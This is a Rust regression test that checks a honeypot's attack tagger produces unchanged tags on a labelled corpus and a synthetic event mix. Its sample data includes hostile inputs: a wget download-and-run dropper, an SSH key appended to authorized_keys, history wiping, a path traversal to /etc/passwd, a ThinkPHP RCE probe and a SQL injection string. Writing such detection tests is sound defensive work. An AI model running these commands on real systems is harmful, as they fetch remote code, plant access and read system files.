//! The tagger's exact output (every tag, its evidence and order) on the
//! labelled corpus and on a synthetic attack mix, against a record made by
//! the tagger before its rule index and prefilters (commit b3423df): any
//! speed-up of the tagging path must leave what it yields untouched.
//!
//! `DECNET_WRITE_GOLDEN=1 cargo test -p decnet-attack --test tag_golden`
//! rewrites the record; do that only for an intended change of the rules.
#![allow(clippy::unwrap_used)]

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use chrono::{Duration, TimeZone, Utc};
use decnet_attack::{corpus, RuleHandle, Tagger};
use decnet_core::{Event, EventKind};
use uuid::Uuid;

fn golden(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(name)
}

/// Tags `events` with one fresh tagger: one JSON line per tag.
fn tag_lines(events: &[Event], out: &mut String) -> usize {
    let mut tagger = Tagger::new(RuleHandle::builtin());
    let mut n = 0;
    for e in events {
        for t in tagger.process(e) {
            writeln!(out, "{}", serde_json::to_string(&t).unwrap()).unwrap();
            n += 1;
        }
    }
    n
}

fn check(name: &str, got: &str) {
    let path = golden(name);
    if std::env::var_os("DECNET_WRITE_GOLDEN").is_some() {
        std::fs::write(&path, got).unwrap();
        return;
    }
    let want = std::fs::read_to_string(&path).unwrap();
    if want != got {
        let first = want
            .lines()
            .zip(got.lines())
            .position(|(a, b)| a != b)
            .unwrap_or(want.lines().count().min(got.lines().count()));
        panic!(
            "{name}: tags differ from the record at line {} ({} lines recorded, {} now)\nrecorded: {:?}\nnow:      {:?}",
            first + 1,
            want.lines().count(),
            got.lines().count(),
            want.lines().nth(first),
            got.lines().nth(first),
        );
    }
}

#[test]
fn corpus_tags_are_unchanged() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus");
    let mut out = String::new();
    let mut tags = 0;
    for s in corpus::load(&dir).unwrap() {
        writeln!(out, "# {}", s.name).unwrap();
        tags += tag_lines(&s.events, &mut out);
    }
    assert!(tags > 100, "the corpus yields tags ({tags})");
    check("golden_corpus_tags.jsonl", &out);
}

const COMMANDS: &[&str] = &[
    "uname -a",
    "cd /tmp; wget http://203.0.113.9/bins.sh; chmod +x bins.sh; ./bins.sh",
    "cat /proc/cpuinfo | grep name | wc -l",
    "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
    "ps aux | grep -v grep | grep xmrig",
    "history -c",
];

const PATHS: &[&str] = &[
    "/",
    "/wp-login.php",
    "/.env",
    "/cgi-bin/.%2e/.%2e/etc/passwd",
    "/index.php?s=/Index/\\think\\app/invokefunction",
];

/// A fixed mix of every kind from rotating sources and services, so
/// aggregate and sequence rules fire and expire as they do under attack.
fn mix(n: usize) -> Vec<Event> {
    let t0 = Utc.with_ymd_and_hms(2026, 12, 7, 12, 0, 0).unwrap();
    (0..n)
        .map(|i| {
            let s = i / 40;
            let kind = EventKind::ALL[(i * 7 + s) % EventKind::ALL.len()];
            let service = ["ssh", "http", "telnet", "ftp", "redis", "smb"][(i / 3 + s) % 6];
            let mut e = Event::new(format!("decky-{}", i % 5), service, kind);
            e.id = Uuid::from_u128(i as u128 + 1);
            e.ts = t0 + Duration::milliseconds(i as i64 * 350);
            e.src_ip = format!("198.51.{}.{}", s / 250, s % 250).parse().unwrap();
            e.src_port = 40_000 + (i % 1000) as u16;
            e.dst_ip = format!("10.0.0.{}", i % 5 + 1).parse().unwrap();
            e.dst_port = [22, 80, 23, 21, 6379, 445, 3306][i % 7];
            e.session_id = Some(Uuid::from_u128((i / 10) as u128 + 1));
            add_fields(e, i)
        })
        .collect()
}

fn add_fields(e: Event, i: usize) -> Event {
    match e.kind {
        EventKind::AuthAttempt => e
            .with("username", ["root", "admin", "ubuntu", "pi"][i % 4])
            .with("password", format!("pass{}", i % 13))
            .with("secret_b64", format!("cGFzc3dvcmQ{}", i % 9))
            .with("success", i % 31 == 0),
        EventKind::Command => e.with("command", COMMANDS[i % COMMANDS.len()]),
        EventKind::Request => e
            .with("method", ["GET", "POST"][i % 2])
            .with("path", PATHS[i % PATHS.len()])
            .with("query", if i % 3 == 0 { "id=1' OR '1'='1" } else { "" })
            .with(
                "user_agent",
                ["curl/8.0", "sqlmap/1.7", "Mozilla/5.0"][i % 3],
            )
            .with(
                "headers",
                serde_json::json!({"host": "10.0.0.1", "user-agent": "x", "accept": "*/*"}),
            ),
        EventKind::FileDownload => e.with("url", "http://203.0.113.9/x86").with("tool", "wget"),
        EventKind::Scan => e
            .with("event_type", "probe")
            .with("probe", "GET / HTTP/1.0"),
        _ => e,
    }
}

#[test]
fn synthetic_mix_tags_are_unchanged() {
    let mut out = String::new();
    let tags = tag_lines(&mix(2_000), &mut out);
    assert!(tags > 200, "the mix yields tags ({tags})");
    check("golden_mix_tags.jsonl", &out);
}
